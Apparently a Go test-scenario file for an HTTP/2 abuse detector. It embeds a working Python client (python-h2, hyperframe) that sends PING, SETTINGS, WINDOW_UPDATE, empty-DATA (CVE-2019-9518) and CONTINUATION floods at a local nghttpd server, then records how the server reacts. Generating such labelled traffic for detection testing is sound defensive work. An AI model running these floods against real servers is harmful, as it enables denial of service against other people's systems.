package main

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
)

// HTTP/2 floods (protocol_abuse) played by a real client library against
// a real server: python-h2 over h2c to nghttpd 1.52, one scenario per
// cause of protocol_abuse that a client's frames make; the synthetic
// attacks/*-flood captures have the same shapes. Where python-h2 will not
// write a frame (CONTINUATION), the client writes it with hyperframe, the
// framing python-h2 itself uses. Debian's nghttp2 1.52 carries flood
// mitigations: the server may end the connection part way, and the client
// stops when its write fails.

// pythonFloodClient is the python-h2 client of the nghttpd-python-*-flood
// scenarios: over h2c with prior knowledge it makes PRE GETs of PATH and
// reads their responses, then floods: N frames of MODE (ping, settings,
// window_update, empty: empty DATA without END_STREAM on an open POST,
// continuation: a HEADERS without END_HEADERS then 8-byte CONTINUATION
// frames), BATCH frames a write every 2 ms, and reads what the server
// sent until it closes or goes quiet. It prints one JSON object per
// event.
const pythonFloodClient = `import json, socket, struct, sys, time
import h2, h2.config, h2.connection, h2.events, h2.exceptions
import hyperframe.frame
host, port, mode, n, batch, pre, path = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6]), sys.argv[7]
t0 = time.monotonic()
def log(**kw):
    kw["t"] = round(time.monotonic() - t0, 6)
    print(json.dumps(kw), flush=True)
sock = socket.create_connection((host, port))
log(event="Connected", local_port=sock.getsockname()[1], h2=h2.__version__)
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
got = {}
def pump(timeout, until=None):
    sock.settimeout(timeout)
    while until is None or not until():
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            return False
        if not data:
            return False
        try:
            evs = conn.receive_data(data)
        except h2.exceptions.ProtocolError as e:
            log(event="ProtocolError", error=str(e))
            return False
        for ev in evs:
            name = type(ev).__name__
            got[name] = got.get(name, 0) + 1
            if isinstance(ev, h2.events.ResponseReceived):
                log(event=name, stream=ev.stream_id, status=dict(ev.headers).get(":status"))
            if isinstance(ev, h2.events.DataReceived):
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            if isinstance(ev, h2.events.StreamEnded):
                done.add(ev.stream_id)
            if isinstance(ev, h2.events.ConnectionTerminated):
                log(event=name, code=ev.error_code.name if hasattr(ev.error_code, "name") else str(ev.error_code), last_stream=ev.last_stream_id)
        d = conn.data_to_send()
        if d:
            sock.sendall(d)
    return True
hdrs = lambda method, p: [(":method", method), (":scheme", "http"), (":authority", "%s:%d" % (host, port)), (":path", p)]
done = set()
sids = []
for _ in range(pre):
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, hdrs("GET", path), end_stream=True)
    sids.append(sid)
sock.sendall(conn.data_to_send())
if not pump(2, lambda: all(s in done for s in sids)):
    log(event="PreFailed")
log(event="Requests", streams=sids, ended=sorted(done))
def hpack_int(v, prefix, first):
    m = (1 << prefix) - 1
    if v < m:
        return bytes([first | v])
    out = [first | m]
    v -= m
    while v >= 128:
        out.append(v % 128 + 128)
        v //= 128
    out.append(v)
    return bytes(out)
flood_sid = None
frames = []
if mode == "empty":
    flood_sid = conn.get_next_available_stream_id()
    conn.send_headers(flood_sid, hdrs("POST", path), end_stream=False)
    sock.sendall(conn.data_to_send())
    log(event="PostOpened", stream=flood_sid)
elif mode == "continuation":
    flood_sid = conn.get_next_available_stream_id()
    # The request's fields, then a literal never-indexed x-flood field
    # whose value (8 bytes a CONTINUATION) never ends.
    block = conn.encoder.encode(hdrs("GET", path)) + b"\x10" + hpack_int(7, 7, 0) + b"x-flood" + hpack_int(8 * (n + 1), 7, 0)
    frames.append(hyperframe.frame.HeadersFrame(flood_sid, data=block, flags=["END_STREAM"]).serialize())
    log(event="HeadersOpened", stream=flood_sid, block=len(block), declared_value=8 * (n + 1))
written = 0
closed = False
i = 0
while i < n and not closed:
    k = min(batch, n - i)
    for j in range(i, i + k):
        if mode == "ping":
            conn.ping(struct.pack(">Q", j))
        elif mode == "settings":
            conn.update_settings({})
        elif mode == "window_update":
            conn.increment_flow_control_window(1)
        elif mode == "empty":
            conn.send_data(flood_sid, b"")
        elif mode == "continuation":
            frames.append(hyperframe.frame.ContinuationFrame(flood_sid, data=b"a" * 8).serialize())
    data = conn.data_to_send() + b"".join(frames)
    frames = []
    try:
        sock.sendall(data)
        written += k
    except OSError as e:
        log(event="WriteFailed", error=str(e), written=written)
        closed = True
    i += k
    time.sleep(0.002)
    if mode != "continuation" and not closed:
        if not pump(0.0005):
            pass
log(event="Flooded", mode=mode, frames=written, closed=closed)
if mode == "empty" and not closed:
    try:
        conn.send_data(flood_sid, b"", end_stream=True)
        sock.sendall(conn.data_to_send())
        log(event="PostEnded", stream=flood_sid)
        pump(2, lambda: flood_sid in done)
    except (OSError, h2.exceptions.ProtocolError) as e:
        log(event="WriteFailed", error=str(e), written=written)
        closed = True
if not closed:
    pump(0.5)
log(event="Received", events=got)
try:
    if mode != "continuation":
        conn.close_connection()
        sock.sendall(conn.data_to_send())
    sock.shutdown(socket.SHUT_WR)
    pump(0.5)
except OSError:
    pass
sock.close()
log(event="Closed")
`

// floodScenario is one nghttpd-python-*-flood scenario.
type floodScenario struct {
	name, mode, cause string
	n, batch, pre     int
	what              string // the frames, for the description
	recv              string // nghttpd -v's name of the flood's frames ("recv PING"); none for CONTINUATION, which it does not log
	desc              string
}

var floodScenarios = []floodScenario{
	{name: "nghttpd-python-ping-flood", mode: "ping", cause: "ping_flood", n: 3000, batch: 100, pre: 2, recv: "recv PING",
		desc: "2 GETs, then 3,000 PINGs (100 a write every 2 ms), reading nghttpd's PING ACKs as they come"},
	{name: "nghttpd-python-settings-flood", mode: "settings", cause: "settings_flood", n: 3000, batch: 100, pre: 2, recv: "recv SETTINGS",
		desc: "2 GETs, then 3,000 empty SETTINGS frames (100 a write every 2 ms), reading nghttpd's SETTINGS ACKs as they come"},
	{name: "nghttpd-python-window-update-flood", mode: "window_update", cause: "window_update_flood", n: 3000, batch: 100, pre: 2, recv: "recv WINDOW_UPDATE",
		desc: "2 GETs, then 3,000 connection WINDOW_UPDATE(+1) frames (100 a write every 2 ms)"},
	{name: "nghttpd-python-empty-frames-flood", mode: "empty", cause: "empty_frames_flood", n: 3000, batch: 100, pre: 2, recv: "recv DATA",
		desc: "2 GETs, then a POST whose body is 3,000 empty DATA frames without END_STREAM (100 a write every 2 ms, CVE-2019-9518), " +
			"then an empty DATA with END_STREAM if the connection still stands"},
	{name: "nghttpd-python-continuation-flood", mode: "continuation", cause: "continuation_flood", n: 3000, batch: 3000, pre: 2,
		desc: "2 GETs, then a HEADERS without END_HEADERS whose last field is a literal x-flood header that never ends, and 3,000 " +
			"CONTINUATION frames of 8 bytes (all in one write, written with hyperframe: python-h2 will not); nghttp2 gives up on the block after a few (\"Too many CONTINUATION frames\") and closes without a GOAWAY"},
}

func init() {
	for _, f := range floodScenarios {
		addStackScenarios(&scenario{
			name: f.name,
			description: "A " + strings.ReplaceAll(f.cause, "_", " ") + " by a real client library against a real server: python-h2 over h2c to " +
				"nghttpd 1.52 sends " + f.desc + "; nghttpd's -v frame log records what it read and what it answered, and the client " +
				"stops when a write fails.",
			findings: []string{"protocol_abuse"},
			commit:   true,
			tools:    []string{"nghttpd", "python3-h2"},
			stack:    runNghttpdFlood(f),
		})
	}
}

// floodReportHead and floodReportTail bound the nghttpd -v lines a flood
// truth keeps (the whole log runs to tens of thousands of lines); the
// frame counts are taken from all of them.
const floodReportHead, floodReportTail = 300, 100

// runNghttpdFlood returns the stack function of one flood scenario.
func runNghttpdFlood(f floodScenario) func(ctx context.Context, r *stackRun) error {
	return func(ctx context.Context, r *stackRun) error {
		const size = 1000
		if err := r.writeWWW(size); err != nil {
			return err
		}
		srv, err := r.startNghttpd(ctx)
		if err != nil {
			return err
		}
		out, err := r.pythonH2(ctx, "flood.py", pythonFloodClient, "client events, one JSON object a line",
			f.mode, strconv.Itoa(f.n), strconv.Itoa(f.batch), strconv.Itoa(f.pre), "/"+strconv.Itoa(size))
		if err != nil {
			return err
		}
		r.stopAll(sigTerm)
		srvOut := r.output(srv)
		frames := r.nghttpdFrames(srvOut)
		// nghttpd -v logs no CONTINUATION frame of its own: nghttp2 hands
		// it a header block's fields, and its error when it gives up.
		var srvErrors []string
		for _, l := range lines(srvOut) {
			if strings.Contains(l, "returned error") {
				srvErrors = append(srvErrors, l)
			}
		}
		if rep := &r.st.Reports[len(r.st.Reports)-1]; len(rep.Lines) > floodReportHead+floodReportTail {
			ls := rep.Lines
			rep.What += fmt.Sprintf(" (its first %d and last %d lines of %d; the facts count frames over all)", floodReportHead, floodReportTail, len(ls))
			rep.Lines = append(append(append([]string{}, ls[:floodReportHead]...), "..."), ls[len(ls)-floodReportTail:]...)
		}
		written, closed, responses := 0, false, 0
		for _, l := range lines(out) {
			var ev struct {
				Event     string `json:"event"`
				LocalPort int    `json:"local_port"`
				Frames    int    `json:"frames"`
				Closed    bool   `json:"closed"`
				Status    string `json:"status"`
			}
			if err := json.Unmarshal([]byte(l), &ev); err != nil {
				return fmt.Errorf("python-h2 client line %q: %v", l, err)
			}
			switch ev.Event {
			case "Connected":
				r.newConn(ev.LocalPort, "flood")
			case "Flooded":
				written, closed = ev.Frames, ev.Closed
			case "ResponseReceived":
				responses++
			}
		}
		if responses < f.pre {
			return fmt.Errorf("the client got %d responses to its %d GETs before the flood", responses, f.pre)
		}
		got := frames[f.recv]
		if f.mode == "empty" {
			got = frames["recv DATA"]
		}
		r.fact("client_flood_frames_written", written)
		r.fact("server_session_errors", len(srvErrors))
		r.fact("client_responses", responses)
		if f.recv != "" {
			r.fact("server_"+strings.ReplaceAll(f.recv, " ", "_"), got)
		}
		for _, k := range []string{"send PING", "send SETTINGS", "send HEADERS", "send DATA", "send GOAWAY", "recv HEADERS"} {
			r.fact("server_"+strings.ReplaceAll(strings.ToLower(k), " ", "_"), frames[k])
		}
		if written < 1000 {
			return fmt.Errorf("the client wrote %d %s frames before its write failed; want 1,000 or more", written, f.mode)
		}
		code := ""
		for k := range frames {
			if c, ok := strings.CutPrefix(k, "send GOAWAY "); ok {
				code = c
			}
		}
		how, sep := "nghttpd -v", ": "
		if f.recv != "" {
			how += fmt.Sprintf(": %d %s read", got, f.recv)
			sep = "; "
		}
		if frames["send GOAWAY"] > 0 {
			how += fmt.Sprintf(", send GOAWAY %s", code)
		}
		for _, e := range srvErrors {
			how += sep + e
			sep = "; "
		}
		if closed {
			how += "; the client's write then failed (the server closed the connection)"
		}
		r.verdictCause("protocol_abuse", "critical", f.cause,
			fmt.Sprintf("%s: a client's frames far beyond its streams' needs, at hundreds a second", strings.ReplaceAll(f.cause, "_", " ")),
			fmt.Sprintf("python-h2 wrote %d %s frames after %d GETs; %s", written, f.mode, f.pre, how))
		return nil
	}
}
